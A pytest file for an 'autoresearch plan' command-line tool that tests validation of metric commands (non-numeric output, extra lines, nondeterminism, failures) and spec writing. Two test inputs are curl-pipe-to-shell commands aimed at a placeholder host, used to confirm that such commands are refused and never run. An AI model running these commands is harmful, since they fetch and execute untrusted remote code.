"""`autoresearch plan`: candidate metric commands are dry-run before anything is written."""

from __future__ import annotations

import os
import shutil

import pytest
import yaml
from conftest import BIN, ROOT, git, make_repo

from autoresearch.cli import main as cli_main
from autoresearch.modes.experiment import Experiment
from autoresearch.modes.narrow import Narrow
from autoresearch.session import plan, spec

PRINT_42 = "python -c 'print(42)'"
# Deterministically not deterministic: every run prints a different number.
COUNTER = (
    "python -c \"import pathlib; p = pathlib.Path('n'); "
    'n = int(p.read_text()) if p.exists() else 0; p.write_text(str(n + 1)); print(10 + 10 * n)"'
)


@pytest.fixture(autouse=True)
def venv_first(monkeypatch, tmp_path):
    """Commands say `python`: it must be this environment's; tmp is a workflow folder (a
    Snakefile), so sessions/ and config/ go there."""
    monkeypatch.setenv("PATH", BIN + os.pathsep + os.environ.get("PATH", ""))
    (tmp_path / "Snakefile").write_text("# the workflow\n")
    monkeypatch.chdir(tmp_path)


def run_plan(capsys, target, *args):
    code = cli_main(["plan", "p", "--target", str(target), "--no-input", *args])
    out, err = capsys.readouterr()
    return code, out, err


def written(tmp_path):
    return tmp_path / "config" / "sessions" / "p.yaml"


@pytest.mark.parametrize(
    ("command", "reason", "hint"),
    [
        ("echo 85%", "not a plain number", "strip the %"),
        ("printf '1\\n2\\n'", "prints 2 lines", "print only the number"),
        ("curl -s http://example.invalid/x | sh", "runs a downloaded script", "only reads"),
        (COUNTER, "the two runs disagree: 10 vs 20", "repeats: 3"),
        ("python -c 'import sys; sys.exit(4)'", "exited with code 4", "must succeed"),
    ],
    ids=["percent", "two-lines", "curl-pipe-sh", "non-deterministic", "failing"],
)
def test_a_bad_metric_command_is_rejected_with_its_reason_and_nothing_is_written(
    capsys, tmp_path, target, command, reason, hint
):
    code, out, err = run_plan(capsys, target, "--metric-command", command, "--yes")
    assert code == 2
    assert reason in err and reason in out
    assert f"hint:       {hint}" in out or hint in out
    assert not written(tmp_path).exists()


def test_a_refused_command_is_never_run(capsys, tmp_path, target):
    marker = tmp_path / "ran"
    command = f'python -c \'open("{marker}", "w")\' ; curl -s http://example.invalid | bash'
    code, out, _ = run_plan(capsys, target, "--metric-command", command, "--yes")
    assert code == 2 and "refused" in out
    assert not marker.exists()


def test_the_diagnostic_shows_exit_code_last_lines_value_and_verdict(capsys, target):
    _, out, _ = run_plan(capsys, target, "--metric-command", "echo 85%", "--guard", "none")
    block = out[out.index("command:") :]
    for label in ("exit code:  0, 0", "last lines: 85%", "value:      -", "verdict:    rejected"):
        assert label in block


def test_the_written_experiment_spec_passes_the_schema_and_the_mode_check(capsys, tmp_path, target):
    code, out, _ = run_plan(
        capsys,
        target,
        "make it smaller",
        "--metric-command",
        PRINT_42,
        "--direction",
        "minimize",
        "--guard",
        "python -m pytest -q",
        "--scope",
        "calc.py",
        "--yes",
    )
    assert code == 0, out
    text = written(tmp_path).read_text()
    values = yaml.safe_load(text)
    assert values["experiment"]["metric"] == {
        "command": PRINT_42,
        "format": "last_line",
        "key": None,
        "direction": "minimize",
    }
    assert values["experiment"]["guard"] == "python -m pytest -q"
    assert "42, 42 (" in text and "s per run" in text  # measured value and timing recorded
    merged = spec.load("p", ROOT, overrides=values)  # the schema, as a session start checks it
    Experiment().setup.check_spec(merged.values, "p")


def test_a_narrow_plan_aims_ten_percent_better_than_the_measured_value(capsys, tmp_path, target):
    code, _, _ = run_plan(
        capsys, target, "fewer things", "--mode", "narrow", "--metric-command", PRINT_42,
        "--guard", "none", "--yes",
    )  # fmt: skip
    assert code == 0
    values = yaml.safe_load(written(tmp_path).read_text())
    assert values["goal"]["target"] == "<= 37.8"
    assert values["angles"] == [{"name": "metric", "hypothesis": "fewer things", "priority": 1}]
    Narrow().setup.check_spec(spec.load("p", ROOT, overrides=values).values, "p")


def test_nothing_is_written_without_yes(capsys, tmp_path, target):
    code, out, _ = run_plan(capsys, target, "--metric-command", PRINT_42, "--guard", "none")
    assert code == 0
    assert "mode: experiment" in out  # the spec is shown
    assert "nothing written" in out
    assert not written(tmp_path).exists()


def test_a_guard_that_fails_on_the_current_code_is_rejected(capsys, tmp_path, target):
    guard = "python -c 'import sys; sys.exit(3)'"
    code, _, err = run_plan(capsys, target, "--metric-command", PRINT_42, "--guard", guard, "--yes")
    assert code == 2
    assert "the guard fails on the current code (exit code 3)" in err
    assert not written(tmp_path).exists()


def test_dry_runs_leave_the_target_checkout_as_it_was(capsys, target):
    before = git(target, "status", "--porcelain", "--ignored")
    run_plan(capsys, target, "--metric-command", COUNTER, "--yes")
    assert git(target, "status", "--porcelain", "--ignored") == before
    assert not (target / "n").exists()
    assert len(git(target, "worktree", "list").splitlines()) == 1


def test_without_a_command_the_first_passing_suggestion_is_taken(capsys, tmp_path, target):
    code, out, _ = run_plan(capsys, target, "fewer lint warnings", "--guard", "none", "--yes")
    assert code == 0, out
    metric = yaml.safe_load(written(tmp_path).read_text())["experiment"]["metric"]
    assert metric["command"] == plan.PY_LINT
    assert "verdict:    accepted" in out


def test_suggestions_follow_the_stack_and_the_goal_words(tmp_path):
    repo = make_repo(tmp_path / "r", {"pyproject.toml": "[project]\nname='r'\n", "bench.py": ""})
    labels = [c.label for c in plan.suggest(repo, "make the test suite faster")]
    assert labels[0] == "test time"
    assert set(labels) == {"test time", "coverage", "lint warnings", "benchmark bench.py"}
    assert plan.suggest(repo, "fewer lint warnings")[0].label == "lint warnings"
    assert plan.suggest(repo, "raise the coverage")[0].direction == "maximize"


def answers(*replies):
    queue = list(replies)
    return plan.Terminal(read=lambda prompt: queue.pop(0))


def request(target, **extra):
    return plan.Request(name="p", target=target, goal="make it smaller", **extra)


def test_on_a_terminal_a_rejected_choice_is_asked_again_then_confirmed(target):
    shown = []
    # mode, metric (own command, its format) rejected, then another, direction, guard,
    # scope, target value, confirmation.
    asker = answers("", "echo 85%", "", PRINT_42, "", "", "none", "", "", "y")
    outcome = plan.plan(request(target), asker, shown.append)
    assert outcome.approved
    assert outcome.values["experiment"]["metric"]["command"] == PRINT_42
    assert any("rejected — the output is not a plain number" in s for s in shown)


def test_on_a_terminal_declining_the_confirmation_writes_nothing(capsys, tmp_path, target):
    asker = answers("", PRINT_42, "", "", "none", "", "", "n")
    outcome = plan.plan(request(target), asker, lambda _: None)
    assert not outcome.approved


@pytest.mark.skipif(shutil.which("strace") is None, reason="strace is not installed")
def test_the_plan_lists_the_files_the_dry_run_ran_as_protected(capsys, tmp_path, target):
    (target / "bench").mkdir()
    (target / "bench/p99.sh").write_text("#!/bin/sh\necho 42\n")
    (target / "bench/p99.sh").chmod(0o755)
    git(target, "add", "-A")
    git(target, "commit", "-q", "-m", "bench")
    code, out, _ = run_plan(
        capsys, target, "faster", "--metric-command", "cd bench && ./p99.sh",
        "--direction", "minimize", "--guard", "python -m pytest -q", "--scope", "calc.py",
        "--yes",
    )  # fmt: skip
    assert code == 0, out
    text = written(tmp_path).read_text()
    rows = [line.split() for line in text.splitlines() if line.startswith("#   ")]
    assert ["#", "bench/p99.sh", "traced", "exec", "(metric", "command)"] in rows
    # The guard's test file lies outside the scope: protected too, and said so.
    assert any(r[1] == "tests/test_calc.py" and "outside" in r for r in rows), rows


SRC_TEST = "from calc import add\n\n\ndef test_add():\n    assert add(1, 2) == 3\n"


def src_layout(tmp_path):
    return make_repo(
        tmp_path / "srcrepo",
        {
            "src/calc/__init__.py": "def add(a, b):\n    return a + b\n",
            "tests/test_calc.py": SRC_TEST,
            "pyproject.toml": '[project]\nname = "calc"\nversion = "0.1"\n',
        },
    )


def test_a_metric_failing_on_a_src_layout_gets_the_hint_setup_gives(capsys, tmp_path):
    repo = src_layout(tmp_path)
    metric = plan.timed("python -m pytest -q")
    code, out, err = run_plan(capsys, repo, "--metric-command", metric, "--guard", "none")
    assert code == 2
    assert "ModuleNotFoundError: No module named 'calc'" in out  # what the timed command said
    assert "module 'calc' is under src/" in err and "PYTHONPATH=src" in err
    assert not written(tmp_path).exists()


def test_a_guard_failing_on_a_src_layout_gets_the_hint_setup_gives(capsys, tmp_path):
    repo = src_layout(tmp_path)
    guard = "python -m pytest -q"
    code, _, err = run_plan(capsys, repo, "--metric-command", PRINT_42, "--guard", guard, "--yes")
    assert code == 2
    assert "the guard fails on the current code (exit code 2); likely fix: module 'calc'" in err


@pytest.mark.parametrize("mode", ["experiment", "narrow"])
def test_a_backend_that_cannot_play_the_mode_is_refused_before_any_dry_run(
    capsys, tmp_path, target, mode
):
    marker = tmp_path / "ran"
    command = f'python -c \'open("{marker}", "w"); print(1)\''
    args = ["--mode", mode, "--backend", "ruff", "--metric-command", command, "--yes"]
    code, out, err = run_plan(capsys, target, *args)
    if mode == "narrow":  # ruff plays narrow's teams: the spec is written and runs
        assert code == 0 and written(tmp_path).exists()
        return
    assert code == 2 and not written(tmp_path).exists() and not marker.exists()
    [line] = err.strip().splitlines()
    assert "--backend" in line and "ruff" in line and "claude" in line


@pytest.mark.parametrize("name", ["plan's lint metric", "narrow's count", "fix's ruff errors"])
def test_the_ruff_counts_the_harness_writes_count_a_target_that_fixes_in_place(tmp_path, name):
    # humanize's pyproject sets ruff's `fix = true`: `ruff check` there fixes what it can and
    # reports the rest. A count must read the tree as it is and change nothing.
    import subprocess

    from autoresearch.modes.fix import count
    from autoresearch.modes.narrow import progress

    command = {
        "plan's lint metric": plan.PY_LINT,
        "narrow's count": progress.COUNTING_COMMAND,
        "fix's ruff errors": count.RUFF_COUNT + ' | python -c "import json, sys; '
        'print(len(json.load(sys.stdin)))"',
    }[name]
    source = "import os\nimport sys\n"
    repo = make_repo(
        tmp_path / "r", {"app.py": source, "pyproject.toml": "[tool.ruff]\nfix = true\n"}
    )
    env = {**os.environ, "PATH": f"{BIN}:{os.environ['PATH']}"}
    out = subprocess.run(command, shell=True, cwd=repo, env=env, capture_output=True, text=True)
    assert out.stdout.split()[-1] == "2", out.stderr
    assert (repo / "app.py").read_text() == source
